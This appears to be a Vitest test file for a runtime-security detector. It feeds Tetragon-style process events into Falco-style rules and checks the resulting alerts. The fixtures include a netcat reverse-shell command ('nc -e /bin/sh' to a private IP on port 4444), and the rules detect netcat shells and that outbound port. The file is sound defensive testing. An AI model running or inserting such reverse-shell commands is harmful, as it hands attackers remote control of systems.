import { mkdtempSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Alert } from "../../src/runtime/output.js";
import { runRuntime } from "../../src/runtime/run.js";
import { tetragonDecoder } from "../../src/runtime/sources/tetragon.js";

/** Lines in the shape of Tetragon's JSON export (process_exec, process_kprobe, process_exit). */
const proc = (
  execId: string,
  pid: number,
  binary: string,
  args: string,
  parentExecId: string,
  pod = true,
) => ({
  exec_id: execId,
  pid,
  uid: 0,
  cwd: "/",
  binary,
  arguments: args,
  flags: "execve clone",
  start_time: "2024-05-01T10:00:00.123456789Z",
  auid: 4294967295,
  parent_exec_id: parentExecId,
  ...(pod
    ? {
        pod: {
          namespace: "shop",
          name: "web-7d9f",
          container: {
            id: "containerd://0123456789abcdef0123456789abcdef",
            name: "web",
            image: { id: "sha256:1", name: "docker.io/library/nginx:1.25" },
          },
        },
        docker: "0123456789abcde",
      }
    : {}),
});
const LINES = [
  {
    process_exec: {
      process: proc("e1", 100, "/usr/bin/containerd-shim", "-namespace k8s.io", "e0", false),
      parent: proc("e0", 1, "/sbin/init", "", "", false),
    },
    node_name: "node-a",
    time: "2024-05-01T10:00:00.200Z",
  },
  {
    process_exec: {
      process: proc("e2", 200, "/bin/bash", '-c "id; sh"', "e1"),
      parent: proc("e1", 100, "/usr/bin/containerd-shim", "-namespace k8s.io", "e0", false),
    },
    node_name: "node-a",
    time: "2024-05-01T10:00:01.000Z",
  },
  {
    process_exec: {
      process: proc("e3", 300, "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444", "e2"),
      parent: proc("e2", 200, "/bin/bash", '-c "id; sh"', "e1"),
    },
    node_name: "node-a",
    time: "2024-05-01T10:00:02.000Z",
  },
  {
    process_kprobe: {
      process: proc("e3", 300, "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444", "e2"),
      parent: proc("e2", 200, "/bin/bash", '-c "id; sh"', "e1"),
      function_name: "tcp_connect",
      args: [
        {
          sock_arg: {
            family: "AF_INET",
            type: "SOCK_STREAM",
            protocol: "IPPROTO_TCP",
            saddr: "10.1.2.3",
            daddr: "10.0.0.9",
            sport: 40000,
            dport: 4444,
          },
        },
      ],
      action: "KPROBE_ACTION_POST",
    },
    node_name: "node-a",
    time: "2024-05-01T10:00:02.100Z",
  },
  {
    process_exit: {
      process: proc("e3", 300, "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444", "e2"),
      parent: proc("e2", 200, "/bin/bash", "", "e1"),
      status: 1,
    },
    node_name: "node-a",
    time: "2024-05-01T10:00:03Z",
  },
];

const RULES = `
- rule: Netcat remote shell in container
  desc: nc -e in a container
  condition: evt.type = execve and container.id != host and proc.name = nc and proc.args contains "-e"
  output: "nc (cmd=%proc.cmdline parent=%proc.pname gp=%proc.aname[2] ggp=%proc.aname[3] pod=%k8s.ns.name/%k8s.pod.name container=%container.id image=%container.image.repository)"
  priority: CRITICAL
  tags: [shell]
- rule: Outbound to 4444
  desc: connect to port 4444
  condition: evt.type = connect and fd.sport = 4444 and fd.snet = 10.0.0.0/8
  output: "connect (to=%fd.sip:%fd.sport from=%fd.cip proc=%proc.name)"
  priority: WARNING
- rule: Shell exited non-zero
  desc: exit
  condition: evt.type = procexit and evt.rawres != 0
  output: "exit (proc=%proc.name res=%evt.rawres)"
  priority: NOTICE
`;

describe("tetragon source", () => {
  it("maps exec, kprobe and exit events to Falco fields with the ancestor chain", async () => {
    const dir = mkdtempSync(join(tmpdir(), "kw-tet-"));
    const file = join(dir, "tetragon.jsonl");
    writeFileSync(file, `${LINES.map((l) => JSON.stringify(l)).join("\n")}\n{"broken\n{"node_name":"x"}\n`);
    const rules = join(dir, "rules.yaml");
    writeFileSync(rules, RULES);
    const alerts: Alert[] = [];
    const res = await runRuntime({
      rules: [rules],
      sources: [`tetragon:${file}`],
      sinks: [{ write: (a) => void alerts.push(a), flush: async () => {} }],
      log: () => {},
    });
    expect(res.counters).toMatchObject({ received: 7, evaluated: 5, malformed: 2 });
    const nc = alerts.find((a) => a.rule === "Netcat remote shell in container")!;
    expect(nc.output).toContain(
      "nc (cmd=nc -e /bin/sh 10.0.0.9 4444 parent=bash gp=containerd-shim ggp=init pod=shop/web-7d9f container=0123456789ab image=docker.io/library/nginx)",
    );
    expect(nc.hostname).toBe(hostname());
    const conn = alerts.find((a) => a.rule === "Outbound to 4444")!;
    expect(conn.output_fields).toMatchObject({
      "fd.sip": "10.0.0.9",
      "fd.sport": 4444,
      "fd.cip": "10.1.2.3",
      "proc.name": "nc",
    });
    expect(alerts.find((a) => a.rule === "Shell exited non-zero")?.output_fields["evt.rawres"]).toBe(1);
  });

  it("splits quoted arguments and reports non-Tetragon input", () => {
    const d = tetragonDecoder("h");
    const r = d.decode(JSON.stringify(LINES[1]));
    expect(r.event?.proc.args).toEqual(["-c", "id; sh"]);
    expect(d.decode("[]").error).toBeDefined();
    expect(d.decode("").skip).toBe(true);
  });
});
